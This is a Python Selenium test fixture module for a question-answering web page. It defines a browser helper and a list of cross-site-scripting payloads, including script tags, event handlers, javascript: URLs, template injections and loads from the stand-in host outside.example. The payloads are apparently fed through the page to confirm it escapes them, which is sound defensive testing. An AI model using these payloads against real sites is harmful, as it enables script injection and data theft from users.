"""A browser that visits the page, and what the page is served from there."""

from __future__ import annotations

import json
import socket
import time
from types import SimpleNamespace

import pytest

import app
from corpus.bundled import bundled_articles
from corpus.reader import read_corpus
from index.build import build_index
from index.encoders import open_encoder
from index.generation import open_contents
from qa.answer import Answer, Citation, Refusal
from qa.desk import Desk
from qa.errors import QuestionError
from qa.feedback import FeedbackLog
from tests.chromium import CHROMIUM, DRIVER, MISSING, chromium

pytest.importorskip("selenium.webdriver")
from selenium.common.exceptions import (
    ElementClickInterceptedException,
    StaleElementReferenceException,
)
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

in_browser = pytest.mark.skipif(not (CHROMIUM and DRIVER), reason=MISSING)

QUOTE = "Rangers counted 40 herons in May."

TEXT = f"The lake rose. It was cold. {QUOTE} Then it fell.\nThe reeds grew back. Nobody swam."

PAYLOADS = (
    "<script>window.hacked=1</script>",
    "<ScRiPt src=//outside.example/hack.js></sCrIpT>",
    "</textarea></title></style></script><script>window.hacked=1</script>",
    '"><script>window.hacked=1</script>',
    "' onmouseover='window.hacked=1",
    "<img src=/hack onerror=window.hacked=2>",
    "<img src=x:y/onerror=window.hacked=2//>",
    "<svg onload=window.hacked=3>",
    "<svg><animate onbegin=window.hacked=3 attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=/hack onerror=window.hacked=3>",
    '<a href="javascript:window.hacked=4">a</a>',
    '<a href="data:text/html,<script>window.hacked=4</script>">a</a>',
    "<button formaction=javascript:window.hacked=4>b</button>",
    "<form action=//outside.example/hack><input autofocus onfocus=window.hacked=4>",
    "<iframe srcdoc='<script>parent.hacked=4</script>'></iframe>",
    "<iframe src=//outside.example/hack></iframe>",
    "<object data=//outside.example/hack></object><embed src=//outside.example/hack>",
    "<video src=/hack onerror=window.hacked=4><audio src=/hack onerror=window.hacked=4>",
    "<details open ontoggle=window.hacked=4>d</details>",
    "<marquee onstart=window.hacked=4>m</marquee>",
    "<style>@import '//outside.example/hack.css';</style>",
    "<link rel=stylesheet href=//outside.example/hack.css>",
    "<meta http-equiv=refresh content='0;url=//outside.example/hack'>",
    "<base href=//outside.example/>",
    "[x](javascript:window.hacked=5)",
    "[x](<javascript:window.hacked=5>)",
    "![y](http://outside.example/y.png)",
    "<http://outside.example/z> http://outside.example/z",
    "**bold** `code` ~~struck~~ | a | b |",
    "$$\\frac{1}{2}$$ \\(z\\) \\[z\\]",
    "${window.hacked=6} {{value}} {{constructor.constructor('window.hacked=6')()}} <%= 7 %>",
    "%3Cscript%3Ewindow.hacked=7%3C/script%3E",
    "&lt;script&gt;window.hacked=7&lt;/script&gt; &#60;b&#62;",
    "<!-- # > ]]> --> :)",
    "\u202e\u2066txet\u2069",
)

HOSTILE = " ".join(PAYLOADS)


class Scripted:
    """Answers from the first article of an index, as each test needs it."""

    def __init__(self, directory):
        self.manifest, contents = open_contents(directory)
        self.articles = contents.articles
        self.generation = SimpleNamespace(contents=contents)

    def ask(self, question, history=()):
        if not question.strip():
            raise QuestionError("the question is empty: ask something in words")
        if "crash" in question:
            raise RuntimeError("the model is gone")
        time.sleep(2 if "slowly" in question else 0)
        article = next(iter(self.articles.values()))
        start = article.text.index(QUOTE)
        cited = (Citation(article, start, start + len(QUOTE), 0.9),)
        if "swans" in question:
            return Refusal(question, f"{question}?", f"Nothing on {question}.", 0.2, cited, 1.0)
        if "hostile" in question:
            whole = (Citation(article, 0, len(article.text), 0.9),)
            return Answer(question, question, HOSTILE, f"“{HOSTILE}” [1]", 0.9, whole, 1.0)
        return Answer(question, question, "40 herons", "40 herons [1].", 0.9, cited, 1.0)


class Visit:
    """A reader with a browser window."""

    def __init__(self, driver, address):
        self.driver = driver
        self.address = address
        self.load()

    def load(self):
        self.driver.get(self.address)
        self.wait(lambda: self.all("#question textarea"))
        self.wait(lambda: self.all(".state, .problem"))

    def all(self, selector):
        return self.driver.find_elements(By.CSS_SELECTOR, selector)

    def one(self, selector):
        return self.wait(lambda: self.all(selector))[0]

    def text(self, selector="#conversation"):
        return self.wait(lambda: [each.text for each in self.all(selector)])[0]

    def literal(self, selector):
        """Return the text of an element without the white space between its tokens."""
        parts = self.one(selector).find_elements(By.CSS_SELECTOR, ".text, .line-break")
        return "".join(part.get_property("textContent") or "\n" for part in parts)

    def run(self, script, *arguments):
        return self.driver.execute_script(script, *arguments)

    def wait(self, condition, seconds=60):
        end = time.monotonic() + seconds
        while not (found := self.settled(condition)):
            if time.monotonic() > end:
                raise AssertionError(
                    f"not in {seconds} s; the page shows {self.all('body')[0].text}"
                )
            time.sleep(0.1)
        return found

    def settled(self, condition):
        """Return what holds now; nothing while the page is laid out anew under our hands."""
        try:
            return condition()
        except StaleElementReferenceException:
            return None

    def type(self, question):
        box = self.one("#question textarea")
        self.run("arguments[0].value = ''", box)
        box.send_keys(question, Keys.ENTER)

    def ask(self, question):
        turns = len(self.all(".turn"))
        self.type(question)
        self.wait(lambda: len(self.all(".turn")) > turns and not self.all(".turn .looking"))
        self.wait(lambda: self.all(".turn:last-child .answer, .turn:last-child .verdict"))

    def clicked(self, button):
        """Click what may still move while a long conversation is laid out."""
        self.run("arguments[0].scrollIntoView({block: 'center'})", button)
        try:
            button.click()
        except ElementClickInterceptedException:
            return False
        return True

    def unfold(self, selector):
        self.wait(lambda: self.is_unfolded(selector))
        return self.wait(lambda: self.all(f"{selector} .token") and self.one(selector))

    def is_unfolded(self, selector):
        """Say whether a fold is open; a click on what is laid out anew in that moment is lost."""
        button = self.one(f"{selector} button.label-wrap")
        if "open" not in button.get_dom_attribute("class").split():
            self.clicked(button)
            time.sleep(0.5)
        return "open" in button.get_dom_attribute("class").split()

    def choose(self, verdict, turn=".turn:last-child"):
        """Click a verdict and return what the line says then."""
        said = self.all(f"{turn} .noted")[0].text if self.all(f"{turn} .noted") else ""
        choices = self.wait(lambda: self.all(f"{turn} .choice"))
        button = next(each for each in choices if each.text == verdict)
        self.wait(lambda: self.clicked(button))
        self.wait(lambda: self.all(f"{turn} .noted") and self.text(f"{turn} .noted") != said)
        return self.text(f"{turn} .noted")

    def open_marker(self, number=1, turn=".turn:last-child"):
        """Click on ``[n]`` in an answer and return the source that opens beside it."""
        markers = self.wait(lambda: self.all(f"{turn} .token.highlighted .text"))
        marker = next(each for each in markers if each.text == f"[{number}]")
        self.wait(lambda: self.clicked(marker))
        self.wait(lambda: self.run("return document.activeElement.id") == "close-source")
        return self.wait(lambda: self.all("#source .article .highlighted") and self.one("#source"))

    def press(self, name):
        """Click on a small button of the last answer, or of the conversation."""
        buttons = self.wait(lambda: [e for e in self.all(".doing") if e.text == name])
        self.wait(lambda: self.clicked(buttons[-1]))

    def earlier(self):
        """Return the earlier conversations that are offered."""
        return [each.text for each in self.all(".earlier .example")]

    def upload(self, *files):
        """Give files and return what is planned with them."""
        (box,) = self.wait(lambda: self.all("#files input[type=file]"))
        box.send_keys("\n".join(map(str, files)))
        self.wait(lambda: self.all("#upkeep .reason"))
        return self.text("#upkeep")

    def look_at(self, tab):
        next(each for each in self.all("[role=tab]") if each.text == tab).click()

    def directory(self):
        self.look_at("Directory")
        self.wait(lambda: self.all(".officials tbody tr"))

    def follow(self, link):
        """Click a link within the page and return the card that it leads to."""
        name = link.get_dom_attribute("href").removeprefix("#")
        self.run("arguments[0].scrollIntoView({block: 'center'})", link)
        link.click()
        self.wait(lambda: self.run("return location.hash") == f"#{name}")
        (card,) = self.all(f"#{name}")
        inside = "const r = arguments[0].getBoundingClientRect(); return r.top < innerHeight - 60"
        self.wait(lambda: card.is_displayed() and self.run(f"{inside} && r.bottom > 60", card))
        assert [each.get_attribute("id") for each in self.shown_cards()] == [name]
        return card

    def shown_cards(self):
        return [card for card in self.all(".card") if card.is_displayed()]

    def sent(self):
        logged = (json.loads(entry["message"])["message"] for entry in self.log("performance"))
        sent = (each for each in logged if each["method"] == "Network.requestWillBeSent")
        return [each["params"]["request"] for each in sent]

    def requests(self):
        return [each["url"] for each in self.sent()]

    def log(self, kind):
        return self.driver.get_log(kind)


@pytest.fixture(scope="session")
def driver():
    with chromium() as driver:
        yield driver


@pytest.fixture(autouse=True)
def no_follow_ups(monkeypatch):
    """Lay nothing out anew behind the back of a test; the one on follow-ups brings its own."""
    monkeypatch.setattr("qa.desk.follow_ups", lambda outcome, desk: [])


@pytest.fixture
def window(driver):
    """Set the size and the colours of the window; a desk's, in light, unless told."""

    def resize(width=1280, height=800, scheme="light"):
        size = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": width < 600}
        driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
        features = [{"name": "prefers-color-scheme", "value": scheme}]
        driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})

    resize()
    return resize


@pytest.fixture
def visit(driver, window, tmp_path_factory, monkeypatch):
    """Serve an index's folder and visit the page."""
    pages = []
    uploads = tmp_path_factory.mktemp("uploads")
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(uploads))

    def start(directory, open_index=Scripted, log=None, *, keeping=None, quality=None):
        with socket.create_server(("127.0.0.1", 0)) as server:
            port = server.getsockname()[1]
        desk = Desk(directory, open_index)
        desk.watch()
        changes = keeping and keeping(desk)
        measures = quality and quality(desk)
        pages.append(app.build_page(desk, log, None, changes, measures))
        driver.get("about:blank")
        for kind in ("performance", "browser"):
            driver.get_log(kind)
        doors = app.Doors(uploads=uploads if changes else None)
        return Visit(driver, app.serve(pages[-1], "127.0.0.1", port, doors))

    yield start
    driver.get("about:blank")
    for page in pages:
        page.close(verbose=False)


@pytest.fixture
def lake(tmp_path, make_article, encoder):
    article = make_article("lake", TEXT, title="Lake news", publisher="The Post", date="2020-05")
    build_index([article], tmp_path, encoder)
    return tmp_path


@pytest.fixture
def log(tmp_path):
    return FeedbackLog(tmp_path / "feedback" / "feedback.jsonl")


@pytest.fixture(scope="module")
def bundled(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bundled")
    articles = read_corpus([bundled_articles()]).articles
    build_index(articles, folder, open_encoder())
    return folder
